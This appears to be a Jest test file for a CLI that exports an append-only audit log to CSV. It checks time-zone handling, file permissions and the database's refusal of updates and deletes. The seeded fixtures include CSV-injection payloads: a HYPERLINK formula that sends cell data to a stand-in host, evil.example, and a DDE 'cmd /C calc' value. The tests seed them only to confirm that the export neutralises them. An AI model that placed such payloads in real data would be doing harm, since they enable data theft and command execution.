import { mkdtempSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import SqliteDatabase from 'better-sqlite3';
import { AuditRepository } from '../../db/audit.repository';
import { migrationsFor } from '../../db/migrate';
import { allVerbs } from '../../cards/verbs';
import { parseCsv } from '../../services/csv';
import { runQa, type QaRun } from '../support/qa-process';
import { createTsqlRecorder } from '../support/tsql-recorder';

/**
 * `npm run qa -- audit export` as a real process against a temporary SQLite file, and the
 * proof that the audit log it reads cannot be changed: no command or button can, and the
 * database refuses it too.
 */
const root = resolve(__dirname, '../..');
const temp = mkdtempSync(join(tmpdir(), 'qa-loop-audit-'));
const database = join(temp, 'audit.sqlite');
/** Well after every seeded entry, so the export's "up to now" cut does not bite. */
const env = { QA_NOW: '2027-01-02T12:00:00Z' };
const qa = (...args: string[]): Promise<QaRun> => runQa(database, args, env);

const HEADER = ['id', 'at_utc', 'at_london', 'actor', 'actor_role', 'action', 'record_kind', 'record_id', 'source', 'detail'];

/** Entries around London midnights in summer (BST, UTC+1) and winter, with values a spreadsheet would misread. */
const seeded = [
  { id: 'e1', at: '2026-06-30T22:59:59.999Z', actor: 'qa.manager@example.org', actor_role: 'qa_manager', action: 'rota.swapped', record_kind: 'staff', record_id: 's1', source: 'card', detail_json: '{"month":"2026-07"}' },
  { id: 'e2', at: '2026-06-30T23:00:00.000Z', actor: '=HYPERLINK("http://evil.example/?x="&A1,"Open")', actor_role: null, action: 'app.installed', record_kind: 'conversation', record_id: 'a,b', source: 'system', detail_json: null },
  { id: 'e3', at: '2026-07-01T12:00:00.000Z', actor: '+441234567890', actor_role: null, action: 'staff.linked-to-teams', record_kind: 'staff', record_id: '-1+1', source: 'system', detail_json: '{"note":"a \\"quoted\\" word, and a comma"}' },
  { id: 'e4', at: '2026-07-01T13:00:00.000Z', actor: "@SUM(1+1)*cmd|' /C calc'!A0", actor_role: null, action: 'rota.excused', record_kind: 'staff', record_id: 'line one\r\nline two', source: 'cli', detail_json: null },
  { id: 'e5', at: '2026-07-01T22:59:59.999Z', actor: 'Zoë Ødegård', actor_role: 'moderator', action: 'review.moderated', record_kind: 'review', record_id: 'r1', source: 'card', detail_json: '{"agreed":true}' },
  { id: 'e6', at: '2026-07-01T23:00:00.000Z', actor: 'system', actor_role: null, action: 'app.uninstalled', record_kind: 'conversation', record_id: 'c1', source: 'system', detail_json: null },
  { id: 'e7', at: '2026-12-01T00:00:00.000Z', actor: 'system', actor_role: null, action: 'app.blocked', record_kind: 'conversation', record_id: 'c2', source: 'system', detail_json: null },
];

function records(csv: string): string[][] {
  return parseCsv(csv).map((record) => record.fields);
}

beforeAll(async () => {
  // Any command opens the database and brings its schema up to date.
  expect((await qa('jobs', 'list')).code).toBe(0);
  const db = new SqliteDatabase(database);
  try {
    const insert = db.prepare(
      'insert into audit_log (id, at, actor, actor_role, action, record_kind, record_id, source, detail_json) values (@id, @at, @actor, @actor_role, @action, @record_kind, @record_id, @source, @detail_json)',
    );
    for (const entry of seeded) insert.run(entry);
  } finally {
    db.close();
  }
}, 60_000);

describe('npm run qa -- audit export', () => {
  let oneDay: QaRun;

  test('one London summer day, to stdout: RFC 4180 CSV, midnight in BST honoured, formulas neutralised', async () => {
    oneDay = await qa('audit', 'export', '--from', '2026-07-01', '--to', '2026-07-01');
    expect(oneDay.code).toBe(0);
    expect(oneDay.stderr).toContain('Exported 4 audit entries from 2026-07-01 to 2026-07-01');
    // Every record ends with CRLF; the only other line break is the one inside a quoted field.
    expect(oneDay.stdout.endsWith('\r\n')).toBe(true);
    expect(oneDay.stdout.replace(/"line one\r\nline two"/, '').split('\n').every((line) => line === '' || line.endsWith('\r'))).toBe(true);
    const rows = records(oneDay.stdout);
    expect(rows[0]).toEqual(HEADER);
    expect(rows.slice(1).map((row) => row[0])).toEqual(['e2', 'e3', 'e4', 'e5']);
    expect(rows[1]).toEqual(['e2', '2026-06-30T23:00:00.000Z', '2026-07-01 00:00:00', `'=HYPERLINK("http://evil.example/?x="&A1,"Open")`, '', 'app.installed', 'conversation', 'a,b', 'system', '']);
    expect(rows[2]).toEqual(['e3', '2026-07-01T12:00:00.000Z', '2026-07-01 13:00:00', "'+441234567890", '', 'staff.linked-to-teams', 'staff', "'-1+1", 'system', '{"note":"a \\"quoted\\" word, and a comma"}']);
    expect(rows[3]?.[3]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(rows[3]?.[7]).toBe('line one\r\nline two');
    expect(rows[4]).toEqual(['e5', '2026-07-01T22:59:59.999Z', '2026-07-01 23:59:59', 'Zoë Ødegård', 'moderator', 'review.moderated', 'review', 'r1', 'card', '{"agreed":true}']);
    // No cell a spreadsheet would run as a formula.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);
  }, 60_000);

  test('--out FILE writes the same CSV to a new file only its owner can read, and never overwrites one', async () => {
    const out = join(temp, 'july.csv');
    const written = await qa('audit', 'export', '--from', '2026-07-01', '--to', '2026-07-01', '--out', out);
    expect(written.code).toBe(0);
    expect(written.stdout.trim()).toBe(`Wrote 4 audit entries from 2026-07-01 to 2026-07-01 (London days; up to 2026-07-01T23:00:00.000Z) to ${out}.`);
    expect(readFileSync(out, 'utf8')).toBe(oneDay.stdout);
    expect(statSync(out).mode & 0o777).toBe(0o600);

    const again = await qa('audit', 'export', '--from', '2026-06-01', '--to', '2026-12-31', '--out', out);
    expect(again.code).toBe(1);
    expect(again.stderr).toContain(`Cannot write ${out}: it exists already`);
    expect(readFileSync(out, 'utf8')).toBe(oneDay.stdout);
  }, 60_000);

  test('a span of days in summer and winter, and each export is itself in the log', async () => {
    const span = await qa('audit', 'export', '--from', '2026-06-30', '--to', '2026-12-01');
    expect(span.code).toBe(0);
    expect(records(span.stdout).slice(1).map((row) => row[0])).toEqual(['e1', 'e2', 'e3', 'e4', 'e5', 'e6', 'e7']);
    expect(records(span.stdout).find((row) => row[0] === 'e7')?.[2]).toBe('2026-12-01 00:00:00');

    // An export runs up to its own moment, so the entries it and the others wrote "now" show an hour later.
    const exports = await runQa(database, ['audit', 'export', '--from', '2027-01-02', '--to', '2027-01-02'], { QA_NOW: '2027-01-02T13:00:00Z' });
    const logged = records(exports.stdout).slice(1);
    // The three exports above (the refused overwrite wrote nothing and is not among them), by the CLI user.
    // They share one QA_NOW instant, so their order among themselves is the ids' order: compared sorted.
    expect(logged.map((row) => [row[3], row[5], row[6], row[8], row[9]]).sort()).toEqual([
      ['cli:cli-test', 'audit.exported', 'audit', 'cli', '{"from":"2026-06-30","to":"2026-12-01","entries":7}'],
      ['cli:cli-test', 'audit.exported', 'audit', 'cli', '{"from":"2026-07-01","to":"2026-07-01","entries":4}'],
      ['cli:cli-test', 'audit.exported', 'audit', 'cli', '{"from":"2026-07-01","to":"2026-07-01","entries":4}'],
    ]);
  }, 60_000);

  test('bad dates print the usage and exit 2', async () => {
    const [noTo, notADay, backwards] = await Promise.all([
      qa('audit', 'export', '--from', '2026-07-01'),
      qa('audit', 'export', '--from', '2026-02-30', '--to', '2026-03-01'),
      qa('audit', 'export', '--from', '2026-07-02', '--to', '2026-07-01'),
    ]);
    for (const run of [noTo, notADay, backwards]) {
      expect(run.code).toBe(2);
      expect(run.stdout).toBe('');
      expect(run.stderr).toContain('Usage: npm run qa -- audit export --from YYYY-MM-DD --to YYYY-MM-DD [--out FILE]');
    }
    expect(noTo.stderr).toContain('audit export needs --from and --to');
    expect(notADay.stderr).toContain('--from "2026-02-30" is not a day');
    expect(backwards.stderr).toContain('--to 2026-07-01 is before --from 2026-07-02');
  }, 60_000);
});

describe('the audit log cannot be changed', () => {
  /** Every source file of the application (tests aside), relative to the project root. */
  function sourceFiles(folder: string): string[] {
    return readdirSync(join(root, folder), { withFileTypes: true }).flatMap((entry) => {
      const path = join(folder, entry.name);
      if (entry.isDirectory()) return sourceFiles(path);
      return entry.name.endsWith('.ts') ? [path] : [];
    });
  }
  const application = ['bot', 'cards', 'cli', 'db', 'services'].flatMap(sourceFiles);
  const read = (path: string): string => readFileSync(join(root, path), 'utf8');

  test('no command and no card button can: the one way to the table appends and reads', async () => {
    // Only db/ reaches the database (ESLint enforces it), and only the audit repository names
    // the table outside the schema and the migrations.
    const naming = application.filter((path) => read(path).includes('audit_log'));
    expect(naming.filter((path) => !path.startsWith(join('db', 'migrations')) && path !== join('db', 'schema.ts'))).toEqual([join('db', 'audit.repository.ts')]);
    // Table names in db/ are always written out, so none can be made up at run time to reach it.
    for (const path of application.filter((file) => file.startsWith('db'))) {
      expect(read(path)).not.toMatch(/\.(updateTable|deleteFrom|insertInto|selectFrom|mergeInto|replaceInto)\(\s*[^'"\s]/);
    }
    const repository = read(join('db', 'audit.repository.ts'));
    expect([...repository.matchAll(/\.(updateTable|deleteFrom|insertInto|selectFrom|mergeInto|replaceInto)\(/g)].map((match) => match[1])).toEqual(['insertInto', 'selectFrom']);
    expect(repository).not.toMatch(/\bsql`/);
    expect(Object.getOwnPropertyNames(AuditRepository.prototype).sort()).toEqual(['append', 'constructor', 'list']);

    const help = await runQa(join(temp, 'help.sqlite'), ['--help']);
    const auditCommands = help.stdout.split('\n').filter((line) => /^\s+audit\s/.test(line));
    expect(auditCommands.map((line) => line.trim().split(/\s{2,}/)[0])).toEqual(['audit export --from YYYY-MM-DD --to YYYY-MM-DD [--out FILE]']);
    expect(allVerbs.filter((verb) => verb.startsWith('audit'))).toEqual([]);
  }, 60_000);

  test('SQLite refuses UPDATE, DELETE and REPLACE on audit_log, from any connection to the file', () => {
    const db = new SqliteDatabase(database);
    try {
      const appendOnly = /audit_log is append-only/;
      expect(() => db.prepare("update audit_log set actor = 'someone else' where id = 'e1'").run()).toThrow(appendOnly);
      expect(() => db.prepare("delete from audit_log where id = 'e1'").run()).toThrow(appendOnly);
      expect(() => db.prepare('delete from audit_log').run()).toThrow(appendOnly);
      expect(() => db.prepare("insert or replace into audit_log (id, at, actor, action, record_kind, source) values ('e1', '2026-06-30T22:59:59.999Z', 'mallory', 'x', 'x', 'x')").run()).toThrow(appendOnly);
      expect(() => db.prepare("replace into audit_log (id, at, actor, action, record_kind, source) values ('e1', '2026-06-30T22:59:59.999Z', 'mallory', 'x', 'x', 'x')").run()).toThrow(appendOnly);
      expect(() =>
        db.prepare("insert into audit_log (id, at, actor, action, record_kind, source) values ('e1', 'x', 'x', 'x', 'x', 'x') on conflict (id) do update set actor = 'mallory'").run(),
      ).toThrow(appendOnly);
      expect(db.prepare("select actor from audit_log where id = 'e1'").get()).toEqual({ actor: 'qa.manager@example.org' });
      // The seeded ids exactly: exports append entries whose random ids may start with an "e" too.
      expect(db.prepare(`select count(*) as n from audit_log where id in (${seeded.map(() => '?').join(', ')})`).get(...seeded.map((entry) => entry.id))).toEqual({ n: seeded.length });
    } finally {
      db.close();
    }
  });

  test('SQL Server: the migrations create an INSTEAD OF UPDATE, DELETE trigger that throws, and nothing later drops it', async () => {
    const recorder = createTsqlRecorder();
    await migrationsFor('mssql')['0001-foundation']?.up(recorder.db);
    const triggers = recorder.statements.map((statement) => statement.sql).filter((text) => /trigger/i.test(text));
    expect(triggers).toEqual(["CREATE TRIGGER audit_log_append_only ON audit_log INSTEAD OF UPDATE, DELETE AS BEGIN THROW 50001, 'audit_log is append-only', 1; END"]);
    // No later migration touches the table or its trigger.
    const migrations = readdirSync(join(root, 'db', 'migrations')).filter((name) => /^\d{4}-.*\.ts$/.test(name) && !name.startsWith('0001-'));
    expect(migrations.length).toBeGreaterThan(0);
    for (const name of migrations) {
      const text = read(join('db', 'migrations', name));
      expect(text).not.toMatch(/drop\s+trigger|disable\s+trigger|alter\s+table\s+"?audit_log|dropTable\('audit_log'\)|alterTable\('audit_log'\)/i);
      if (name !== '0005-audit-log-no-replace.ts') expect(text).not.toContain('audit_log');
    }
    const later = createTsqlRecorder();
    await migrationsFor('mssql')['0005-audit-log-no-replace']?.up(later.db);
    expect(later.statements).toEqual([]);
  });
});
